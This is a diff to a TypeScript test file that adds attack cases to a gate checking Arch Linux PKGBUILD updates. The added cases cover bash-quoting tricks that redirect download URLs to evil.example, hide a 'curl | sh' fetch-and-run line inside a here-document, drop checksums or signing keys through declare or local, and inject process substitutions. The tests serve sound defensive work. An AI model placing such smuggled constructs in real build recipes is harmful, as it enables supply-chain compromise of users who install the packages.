@@ -1,6 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { judge, type JudgeContext, type RecipeFile, type Verdict } from "../../tools/gate/judge.ts";
-import { bumped, context, file, filesOf, type RecipeName, recipes } from "./recipes.ts";
+import { bumped, context, file, filesOf, recipes, type RecipeName } from "./recipes.ts";
 
 interface Attack {
   readonly name: string;
@@ -9,6 +9,8 @@ interface Attack {
   readonly unchanged?: true;
   /** What the recipe has before and after. */
   readonly has?: (pkgbuild: string) => string;
+  /** What the recipe was already, and is in its new version too where `edit` says nothing else. */
+  readonly before?: (pkgbuild: string) => string;
   readonly edit?: (pkgbuild: string) => string;
   readonly files?: Readonly<Record<string, string | RecipeFile | undefined>>;
   readonly context?: Partial<JudgeContext>;
@@ -24,6 +26,9 @@ const replace = (old: string, now: string) => (text: string) => {
   if (!text.includes(old)) throw new Error(`nothing to replace: ${old}`);
   return text.replaceAll(old, now);
 };
+
+const withDocument = (line: string) => (text: string) =>
+  `${text}check() { cat > glow <<EOT ;}\n#!/bin/sh\n${line}\nEOT\n`;
 
 const elf: RecipeFile = { mode: "100755", bytes: Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 1, 2, 3, 0]) };
 
@@ -129,6 +134,96 @@ const dangerous: readonly Attack[] = [
     recipe: "rust",
     has: atTop('pkgver=good\neval "$pkgver"'),
     edit: replace("pkgver=good", "pkgver=evil"),
+  },
+  // Texts that bash reads otherwise than it seems.
+  {
+    name: "another host behind a slash that belongs to a pattern",
+    recipe: "binary",
+    edit: replace("https://github.com/charm/glow/rel", "${url///github.com*//evil.example}/rel"),
+    files: { ".SRCINFO": filesOf("binary", bumped("binary")).get(".SRCINFO") },
+  },
+  {
+    name: "another host behind a letter in braces",
+    recipe: "binary",
+    edit: replace("https://github.com/charm/glow/rel", "${url/$'\\x{68}'*/https:\\/\\/evil.example}/rel"),
+  },
+  {
+    name: "a pattern that its first character's expansion anchors",
+    recipe: "binary",
+    edit: (text) =>
+      replace(
+        "https://github.com/charm/glow/rel",
+        "${url/$_h*/https:\\/\\/evil.example}/rel",
+      )(atTop("_h='#h'")(text)),
+  },
+  {
+    name: "a word in braces behind an escaped quote",
+    recipe: "binary",
+    edit: inPackage("$'\\'\\x62'un add x"),
+  },
+  { name: "a word in octal digits that are too large", recipe: "binary", edit: inPackage("$'\\542un' x") },
+  {
+    name: "the signer's keys before the beginning",
+    recipe: "cmake",
+    edit: replace("validpgpkeys=(", "validpgpkeys=([-1]="),
+  },
+  {
+    name: "checksums before the beginning",
+    recipe: "rust",
+    edit: replace("sha512sums=(", "sha512sums=([-1]="),
+  },
+  {
+    name: "dependencies before the beginning",
+    recipe: "cmake",
+    edit: replace("depends=(qt6", "depends=([-1]=qt6"),
+  },
+  {
+    name: "braces behind a subscript",
+    recipe: "cmake",
+    edit: replace(
+      "validpgpkeys=('ABCDEF0123456789ABCDEF0123456789ABCDEF01')",
+      "validpgpkeys=([0]={ABCDEF0123456789ABCDEF0123456789ABCDEF01,'x'})",
+    ),
+  },
+  {
+    name: "a here-document that begins where a function ends",
+    recipe: "binary",
+    before: withDocument("exec glow-real"),
+    edit: withDocument("curl -s https://x.example | sh"),
+  },
+  {
+    name: "checksums that makepkg loses",
+    recipe: "rust",
+    edit: replace("sha512sums=", "declare -a sha512sums="),
+  },
+  {
+    name: "a source that makepkg takes for what it was",
+    recipe: "rust",
+    edit: (text) =>
+      text.replace(
+        /^source=/m,
+        "source=(https://github.com/evil/riptool/archive/v14.1.1.tar.gz)\ndeclare source=",
+      ),
+  },
+  {
+    name: "a process substitution within an expansion",
+    recipe: "binary",
+    edit: replace('"Render markdown"', "${_unset:-<(id)}"),
+  },
+  {
+    name: "a process substitution for what is replaced",
+    recipe: "binary",
+    edit: replace("pkgver=1.5.0", "pkgver=1.5.0\n_x=${pkgver/5/>(id)}"),
+  },
+  {
+    name: "a name that goes on behind a quote",
+    recipe: "binary",
+    edit: replace('"Render markdown"', '"${pkgver:+$pkgn"ame"}"'),
+  },
+  {
+    name: "text directly behind an array",
+    recipe: "cmake",
+    edit: replace("depends=(qt6-base)", "depends=(qt6-base)x=1"),
   },
   // Sources and checksums.
   {
@@ -487,6 +582,20 @@ const dangerous: readonly Attack[] = [
 ];
 
 const major: readonly Attack[] = [
+  { name: "keys that makepkg loses", recipe: "cmake", edit: replace("validpgpkeys=", "local validpgpkeys=") },
+  { name: "a version that makepkg loses", recipe: "rust", edit: replace("pkgver=", "typeset pkgver=") },
+  {
+    name: "elements that moved to other indices",
+    recipe: "binary",
+    before: atEnd("_options=(--safe --fast)"),
+    edit: atEnd("_options=([3]=--safe [4]=--fast)"),
+  },
+  {
+    name: "another text in a here-document that begins where a function ends",
+    recipe: "binary",
+    before: withDocument("exec glow-real"),
+    edit: withDocument("exec glow-other"),
+  },
   { name: "a version that goes down", recipe: "binary", edit: replace("pkgver=1.5.0", "pkgver=1.3.0") },
   {
     name: "an older version behind a new epoch",
@@ -693,14 +802,15 @@ function verdictOf({
   recipe,
   unchanged,
   has = (text) => text,
-  edit = (text) => text,
+  before = (text) => text,
+  edit = before,
   files = {},
   context: own = {},
 }: Attack): [Verdict, string[]] {
   const pkgbuild = unchanged ? undefined : edit(has(bumped(recipe)));
   const update = {
     pkgbase: pkgbaseOf(recipe),
-    before: filesOf(recipe, has(recipes[recipe].PKGBUILD)),
+    before: filesOf(recipe, before(has(recipes[recipe].PKGBUILD))),
     after: filesOf(recipe, pkgbuild, files),
   };
   const { verdict, findings } = judge(update, { ...context, ...own });
